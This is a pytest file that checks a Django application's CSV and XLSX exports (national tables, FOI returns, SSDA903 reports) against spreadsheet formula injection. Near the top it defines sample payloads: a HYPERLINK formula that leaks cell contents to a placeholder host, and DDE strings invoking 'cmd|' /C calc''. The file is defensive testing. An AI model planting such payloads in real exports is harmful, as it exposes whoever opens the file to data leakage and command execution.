"""No CSV or XLSX file Visible writes can carry a formula (OWASP CSV injection): a name or label
beginning =, +, -, @, tab or CR is written as text (a leading apostrophe in CSV; a text cell,
quote-prefixed, in XLSX), in every export; numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests.factories import PASSWORD, as_viewer, make_user
from tests.national.collections import PERIOD
from visible.agencies.models import Organisation, OrganisationKind, Role
from visible.national import actions as national
from visible.reference.models import Authority
from visible.returns import foi, formats
from visible.spreadsheets import FORMULA_STARTS, csv_writer, inert
from visible.ssda903.export import council_for_code, export_return
from visible.ssda903.importer import import_return
from visible.ssda903.models import ProblemReport

from .ssda903.test_problems import good_files

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://example.invalid/?leak="&A1,"Open")'
DDE = "+1+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
TAB, CR = "\t=1+1", "\r=1+1"
MALICIOUS = (HYPERLINK, DDE, SUM, MINUS, TAB, CR)


def csv_line(*cells: str) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerow(cells)
    return out.getvalue()


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def assert_no_formula_in_csv(text: str) -> None:
    for cell in csv_cells(text):
        assert not (cell[:1] in FORMULA_STARTS and not re.fullmatch(r"[+-]?\d+(\.\d+)?", cell)), (
            cell
        )


def xlsx_cells(raw: bytes) -> list:
    book = load_workbook(io.BytesIO(raw))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula_in_xlsx(raw: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    assert all(cell.data_type != "f" for cell in xlsx_cells(raw))


def test_text_taken_for_a_formula_gets_an_apostrophe_and_numbers_stay_numbers():
    for value in MALICIOUS:
        assert inert(value) == "'" + value
    for value in (
        -1,
        0,
        3.5,
        "-1",
        "+3.5",
        "Dawit",
        "",
        None,
        "c",
        ":",
        "E09000008",
        "01/04/2025",
        dt.date(2025, 4, 1),
    ):
        assert inert(value) == value
    out = io.StringIO()
    csv_writer(out).writerow([HYPERLINK, -1, "-1", "Dawit Tekle", TAB])
    assert (
        out.getvalue()
        == '"\'=HYPERLINK(""https://example.invalid/?leak=""&A1,""Open"")",-1,-1,Dawit Tekle,\'\t=1+1\r\n'
    )


def test_the_national_tables_as_csv_and_xlsx(client, db):
    # The collection's name is the first column of the tidy CSV; a grouping's regions are the
    # rows of the regional table: both typed or uploaded by people.
    body = Organisation.objects.create(
        name="National monitoring body (synthetic)", kind=OrganisationKind.NATIONAL_BODY
    )
    analyst = make_user("analyst.national", body, Role.ANALYST)
    collection = national.open_collection(
        as_viewer(analyst), HYPERLINK, *PERIOD, dt.date(2025, 11, 30)
    )
    grouping = national.load_grouping(
        as_viewer(analyst),
        "Regions",
        (
            csv_line("code", "region") + csv_line("E09000008", SUM) + csv_line("E10000016", MINUS)
        ).encode(),
        "regions.csv",
    )
    client.force_login(analyst)
    url = reverse("web:national-export", args=[collection.pk, "csv"])
    tidy = client.get(url, {"grouping": grouping.pk}).content.decode("utf-8-sig")
    assert_no_formula_in_csv(tidy)
    rows = list(csv.reader(io.StringIO(tidy)))
    assert rows[1][0] == "'" + HYPERLINK
    regional = [r for r in rows if r[1].startswith("Regional breakdown")]
    assert {r[2] for r in regional} >= {"'" + SUM, "'" + MINUS, "Total"}
    assert any(r[4] == "0" for r in regional)  # a count is still a number
    one = client.get(url, {"grouping": grouping.pk, "table": "regional"}).content.decode(
        "utf-8-sig"
    )
    assert_no_formula_in_csv(one)
    assert "'" + SUM in csv_cells(one)

    raw = client.get(
        reverse("web:national-export", args=[collection.pk, "xlsx"]), {"grouping": grouping.pk}
    ).content
    assert_no_formula_in_xlsx(raw)
    cells = {c.value: c for c in xlsx_cells(raw)}
    for text in (HYPERLINK, SUM, MINUS):
        assert cells[text].data_type == "s" and cells[text].quotePrefix
    book = load_workbook(io.BytesIO(raw))
    regional_sheet = next(s for s in book.worksheets if s.title.startswith("Regional"))
    counts = [
        c
        for row in regional_sheet.iter_rows(min_row=3)
        for c in row[1:]
        if isinstance(c.value, int)
    ]
    assert counts and all(c.data_type == "n" for c in counts)


def test_the_foi_return_as_csv_and_xlsx(council_a):
    # The writers of every FOI return file; a document from another authority (the national
    # body receives them as JSON) carries its own names and labels.
    result = foi.count_return(
        [Authority.objects.get(code="E09000008")], dt.date(2024, 4, 1), dt.date(2025, 3, 31)
    )
    document = formats.published(result)
    document["authority"]["name"] = HYPERLINK
    document["groups"][0]["label"] = SUM
    table = document["breakdowns"][0]
    table["rows"] = [
        {
            "code": "ALB",
            "label": DDE,
            "values": dict.fromkeys(table["column_totals"], 1),
            "total": 5,
        }
    ]
    text = formats.to_csv(document).decode("utf-8-sig")
    assert_no_formula_in_csv(text)
    assert "'" + DDE in csv_cells(text)
    raw = formats.to_xlsx(document)
    assert_no_formula_in_xlsx(raw)
    cells = {c.value: c for c in xlsx_cells(raw)}
    assert (
        cells[f"{HYPERLINK} (E09000008)"].data_type == "s"
        and cells[f"{HYPERLINK} (E09000008)"].quotePrefix
    )
    assert cells[SUM].quotePrefix and cells[DDE].quotePrefix
    assert any(c.data_type == "n" and c.value == 5 for c in cells.values())


def test_the_ssda903_problem_report_csv_and_its_download(client, manager_a, council_a):
    # The report repeats the uploaded file's own values: a CHILD of "=HYPERLINK(...)" (too long
    # to be an identifier) is echoed back as text.
    files = good_files()
    files["header.csv"] = files["header.csv"].replace(
        "C2,F,", csv_line(HYPERLINK, "F", "").rstrip("\r\n")
    )
    files["missing.csv"] = files["missing.csv"].replace("C2,", csv_line(SUM, "").rstrip("\r\n"))
    outcome = import_return([(n, c.encode()) for n, c in files.items()], 2025, "E09000008")
    report = outcome.report.as_csv()
    assert_no_formula_in_csv(report)
    assert "'" + HYPERLINK in csv_cells(report) and "'" + SUM in csv_cells(report)
    # A report kept from before the guard is written through it as it is downloaded.
    kept = ProblemReport.objects.create(
        organisation=council_a,
        created_by_name="manager.a",
        csv_text=csv_line("severity", "file", "row", "column", "value", "rule", "how to fix")
        + csv_line("error", "header.csv", "3", "CHILD", HYPERLINK, "too long", "fix"),
    )
    client.login(username=manager_a.username, password=PASSWORD)
    downloaded = client.get(reverse("web:ssda903-problems", args=[kept.pk])).content.decode()
    assert_no_formula_in_csv(downloaded)
    assert csv_cells(downloaded)[7:12] == ["error", "header.csv", "3", "CHILD", "'" + HYPERLINK]


def test_the_ssda903_export_cannot_write_a_formula(council_a, tmp_path):
    # ETHNIC, UPN and MOTHER are kept as imported (the register has no field for them) and
    # written back in the next export. They hold at most 4, 13 and 1 characters (a longer value
    # is refused by the import: tests/ssda903/test_upload_limits.py), but a formula fits: it is
    # written as text, and the DfE's codes and dates, which never begin with those characters,
    # are written as they are.
    ethnic, upn, mother = "=1+2", "@SUM(1)+CMD|X", "="
    files = good_files()
    files["header.csv"] = files["header.csv"].replace(
        "C1,M,01/05/2009,NOBT,UN5,,\r\n", csv_line("C1", "M", "01/05/2009", ethnic, upn, mother, "")
    )
    outcome = import_return([(n, c.encode()) for n, c in files.items()], 2025, "E09000008")
    assert outcome.imported, outcome.report.as_text()
    export_return(council_for_code("E09000008"), 2025, tmp_path)
    for path in tmp_path.glob("*.csv"):
        assert_no_formula_in_csv(path.read_text())
    header = list(csv.DictReader(io.StringIO((tmp_path / "header.csv").read_text())))
    c1 = next(r for r in header if r["CHILD"] == "C1")
    assert (c1["ETHNIC"], c1["UPN"], c1["MOTHER"]) == ("'" + ethnic, "'" + upn, "'" + mother)
    c2 = next(r for r in header if r["CHILD"] == "C2")
    assert (c2["SEX"], c2["DOB"], c2["ETHNIC"], c2["UPN"]) == ("F", "02/06/2010", "NOBT", "UN5")
